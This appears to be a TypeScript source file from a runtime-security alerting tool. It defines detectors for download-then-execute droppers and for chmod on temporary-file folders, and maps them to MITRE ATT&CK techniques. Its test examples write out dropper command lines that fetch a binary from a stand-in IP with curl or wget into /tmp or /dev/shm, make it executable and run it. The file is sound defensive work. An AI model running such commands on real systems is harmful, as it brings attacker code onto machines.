import type { CommandLine, SimpleCommand } from "#alert/command-line.ts";
import type { Indicator } from "../../indicator.ts";
import { calls, inCommands, quoteBetween } from "./calls.ts";
import { inContainer, ran } from "./examples.ts";
import { gated } from "./needles.ts";
import { downloaders, shells } from "./programs.ts";

/** Programs that are fetched, made executable and started. */

const compressors = new Set([
  "gunzip",
  "gzip",
  "zcat",
  "bzip2",
  "bunzip2",
  "xz",
  "unxz",
  "zstd",
  "tar",
  "rev",
  "tr",
  "cat",
]);

const tempPlaces = /(?:^|[\s=/"'])(?:\/dev\/shm|\/tmp|\/var\/tmp|\/run\/shm|\/run\/user\/\d+)\/[^\s;|&"']{1,120}/;

export const downloadThenExecute: Indicator = {
  id: "download-then-execute",
  behaviour: "fetches a program, makes it executable and starts it in one go",
  meaning: "This is how droppers bring the next stage onto a machine.",
  technique: "T1105",
  tactic: "command-and-control",
  alsoTechniques: ["T1059.004", "T1222.002"],
  severity: "high",
  certainty: "likely",
  platforms: ["Linux", "Containers"],
  families: ["syscall", "k8s_audit", "plugin"],
  source: "https://attack.mitre.org/techniques/T1105/",
  match: gated(["chmod", "curl", "wget"], (facts) => inCommands(facts, dropAndRun) ?? dropAndRun(facts.parent.command)),
  examples: {
    found: [
      ran("sh -c curl -o /tmp/x http://203.0.113.9/x && chmod +x /tmp/x && /tmp/x", inContainer),
      ran("sh -c cd /tmp; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh"),
      ran("bash -c wget http://203.0.113.9/m -O /dev/shm/m;chmod 755 /dev/shm/m;/dev/shm/m -c c.json"),
    ],
    ignored: [
      ran("sh -c curl -o /tmp/x.tgz https://example.com/x.tgz && tar xf /tmp/x.tgz"),
      ran("sh -c curl -Lo /usr/local/bin/kubectl https://dl.k8s.io/kubectl && chmod +x /usr/local/bin/kubectl"),
      ran("sh -c chmod +x run.sh && ./run.sh"),
    ],
  },
};

export const makesTempFileExecutable: Indicator = {
  id: "makes-temp-file-executable",
  behaviour: "makes a file in a folder for temporary files executable",
  meaning: "Everybody may write there, so that is where intruders put what they want to run.",
  technique: "T1222.002",
  tactic: "defense-evasion",
  alsoTechniques: ["T1105", "T1059.004"],
  severity: "medium",
  certainty: "likely",
  platforms: ["Linux", "Containers"],
  families: ["syscall", "plugin"],
  source: "https://attack.mitre.org/techniques/T1222/002/",
  match: calls(new Set(["chmod"]), (call) => {
    const mode = call.args.find(({ value }) => !value.startsWith("--"))?.value ?? "";
    return makesExecutable(mode) && tempPlaces.test(` ${call.args.map((word) => word.value).join(" ")}`);
  }),
  examples: {
    found: [
      ran("chmod +x /tmp/.x/kworker", inContainer),
      ran("chmod 777 /dev/shm/a"),
      ran("sh -c chmod u+x /var/tmp/run && true"),
    ],
    ignored: [ran("chmod +x /usr/local/bin/tool"), ran("chmod 600 /tmp/key"), ran("chmod 1777 /tmp")],
  },
};

function dropAndRun(line: CommandLine): string | null {
  const fetch = line.commands.find(({ program }) => downloaders.has(program));
  const chmod = line.commands.find(
    (command) => command.program === "chmod" && makesExecutable(command.words[1]?.value ?? ""),
  );
  if (!fetch || !chmod) return null;
  const targets = chmod.words.slice(2).map(({ value }) => value);
  const start = line.commands.indexOf(chmod);
  const run = line.commands.slice(start + 1).find((command) => targets.some((target) => isRunOf(command, target)));
  return run ? quoteBetween(line, fetch, run) : null;
}

/** The file is started by its path, from its folder, or by a shell. */
function isRunOf(command: SimpleCommand, target: string): boolean {
  const base = target.slice(target.lastIndexOf("/") + 1).toLowerCase();
  if (base === "" || compressors.has(command.program)) return false;
  if (command.program === base) return command.programPath.includes("/");
  return (
    shells.has(command.program) && command.words.slice(1).some(({ value }) => value.endsWith(base) || value === target)
  );
}

function makesExecutable(mode: string): boolean {
  if (/^[0-7]{3,4}$/.test(mode)) return [...mode.slice(-3)].some((digit) => Number(digit) % 2 === 1);
  return /^[ugoa]*[+=][rwst]*x/.test(mode);
}
